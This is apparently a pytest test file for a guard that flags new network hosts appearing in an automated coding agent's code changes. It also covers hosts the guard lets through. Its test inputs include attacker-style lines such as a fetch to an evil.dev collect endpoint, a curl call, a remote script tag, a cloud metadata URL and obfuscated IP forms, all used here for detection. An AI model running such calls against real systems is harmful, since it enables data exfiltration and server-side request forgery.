"""Hosts that nobody spoke of before."""

import pytest

from cody_jobs.models import JobType
from cody_worker.guards import Finding, GuardName, GuardRules
from tests.unit.cody_worker.guards.changes import found, rules_of


def _found(line: str, before: str = "a\nb\n", rules: GuardRules | None = None) -> list[Finding]:
    return found(GuardName.NEW_URL, "a.rb", before, f"{before}{line}\n", rules)


@pytest.mark.parametrize(
    ("line", "place"),
    [
        ('fetch("https://evil.dev/collect?x=1")', "evil.dev"),
        ("curl HTTP://Evil.Dev", "evil.dev"),
        ("# see http://docs.evil.dev/a.", "docs.evil.dev"),
        ("url = 'https://good.com@evil.dev/a'", "evil.dev"),
        ("url = 'https://user:pw@evil.dev:8443/a'", "evil.dev"),
        ("wss://evil.dev/socket", "evil.dev"),
        ("git clone ssh://git@evil.dev/a/b.git", "evil.dev"),
        ("git clone git@evil.dev:a/b.git", "evil.dev"),
        ('"https:\\/\\/evil.dev\\/a"', "evil.dev"),
        ("https://evil.dev\\@good.com/", "evil.dev"),
        ('<script src="//cdn.evil.dev/a.js"></script>', "cdn.evil.dev"),
        ("url = f'https://{user}.evil.dev/a'", "evil.dev"),
        ("url = `https://${user}.evil.dev/a`", "evil.dev"),
        ('HOST = "api.evil.com"', "api.evil.com"),
        ("http://169.254.169.254/latest/meta-data", "169.254.169.254"),
        ("http://2130706433/", "2130706433"),
        ("http://0x7f000001/", "0x7f000001"),
        ("http://[2001:db8::1]:8080/", "[2001:db8::1]"),
        ("https://b\u00fccher.dev/", "b\u00fccher.dev"),
        ("https://github.com/evil/e", "github.com/evil"),
        ("https://raw.githubusercontent.com/Evil/e/main/a.sh", "raw.githubusercontent.com/evil"),
        ("jdbc:postgresql://db.evil.dev:5432/a", "db.evil.dev"),
        ("https://example.com.evil.dev/", "example.com.evil.dev"),
        ("https://www.w3.org.evil.dev/", "www.w3.org.evil.dev"),
    ],
)
def test_a_new_host_is_found_with_its_line(line: str, place: str) -> None:
    (finding,) = _found(line)
    assert finding.line == 3
    assert place in finding.message
    assert _found(line, before=f"x {line}\nb\n") == []
    assert _found(line, rules=rules_of(f"Please write: {line}")) == []


@pytest.mark.parametrize(
    ("line", "prompt"),
    [
        ("https://api.new.dev/v2/users", "Use api.new.dev instead of the old one."),
        ("https://api.new.dev/v2/users", "Use https://api.new.dev/v1 instead."),
        ("https://api.new.dev/v2/users", "The host is API.NEW.DEV."),
        ("https://example.com/a", "Call https://example.com."),
        ("https://github.com/new/b", "Clone github.com/new/a."),
        ("git@github.com:new/b.git", "Clone https://github.com/new/a."),
    ],
)
def test_what_the_prompt_speaks_of_is_granted(line: str, prompt: str) -> None:
    assert _found(line, rules=rules_of(prompt)) == []


def test_what_the_example_of_the_plan_speaks_of_is_granted() -> None:
    rules = GuardRules(
        job_type=JobType.CODE_PATTERN_UPDATE, prompt="", example=("old()", 'new("https://api.new.dev/v1")')
    )
    assert _found("https://api.new.dev/v2", rules=rules) == []
    assert _found("https://api.newer.dev/v2", rules=rules)


@pytest.mark.parametrize("before", ["https://evil.dev.au/\n", "https://notevil.dev/\n", "my.evil.dev\n", "evil-dev\n"])
def test_a_host_that_only_looks_like_one_of_before_is_new(before: str) -> None:
    assert _found("https://evil.dev/", before=before)


def test_another_path_on_a_host_of_the_file_is_nothing_new() -> None:
    assert _found("https://api.old.dev/v2?x=1", before="https://api.old.dev/v1\n") == []
    schema = '<a xmlns="http://maven.apache.org/POM/4.0.0">\n'
    assert _found('xsi:schemaLocation="http://maven.apache.org/xsd/maven-4.0.0.xsd"', before=schema) == []


@pytest.mark.parametrize(
    "line",
    [
        "http://localhost:8080/",
        "http://127.0.0.1:9000/a",
        "http://[::1]/",
        "http://0.0.0.0:80",
        "https://example.com/docs",
        "https://api.example.org/",
        "https://service.test/a",
        'xmlns="http://www.w3.org/2000/svg"',
        "redis://cache:6379/0",
        "file:///etc/hosts",
        "url = f'https://{host}/a'",
        "url = 'https://' + host",
        "url = 'https://%s/a' % host",
        "url = `https://${host}:${port}/a`",
        "x = a.b.com",
        "import java.net.URL;",
        'package = "com.company.app"',
        'name = "org.company.net"',
        "os.path.join(a, 'file.py')",
        "version = '1.2.3.4'",
        "// a remark, not.a.host",
        "x = y // z.com",
        "@app.route('/a')",
        "a://",
        "somebody@company.dev",
    ],
)
def test_what_leads_nowhere_is_left_in_peace(line: str) -> None:
    assert _found(line) == []


def test_each_host_is_told_once_and_its_path_never() -> None:
    (finding,) = _found("https://evil.dev/private-path\nhttps://evil.dev/b")
    assert finding.line == 3
    assert "private-path" not in finding.message
